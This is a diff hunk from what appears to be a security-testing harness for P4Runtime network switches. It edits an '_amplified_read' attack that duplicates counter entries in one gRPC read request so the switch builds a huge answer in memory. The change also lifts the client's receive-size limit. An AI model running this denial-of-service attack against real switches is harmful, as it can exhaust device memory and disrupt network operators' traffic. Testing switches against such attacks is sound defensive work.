@@ -502,7 +502,9 @@ def _amplified_read(party: str) -> AttackFn:
     times: the switch builds the whole answer in memory before it sends it (taken when it
     is answered in full)."""
     def run(v: Victim) -> None:
-        with v.channel(party) as ch:
+        tls = v.party_tls(party)     # the client takes an answer of any size: the switch decides
+        with grpc.secure_channel(v.addr, tls.credentials(), options=[
+                ("grpc.ssl_target_name_override", v.switch), ("grpc.max_receive_message_length", -1)]) as ch:
             stub = p4runtime_pb2_grpc.P4RuntimeStub(ch)
             req = p4runtime_pb2.ReadRequest(device_id=v.device_id, entities=[
                 p4runtime_pb2.Entity(counter_entry=p4runtime_pb2.CounterEntry())] * AMPLIFIED_COPIES)
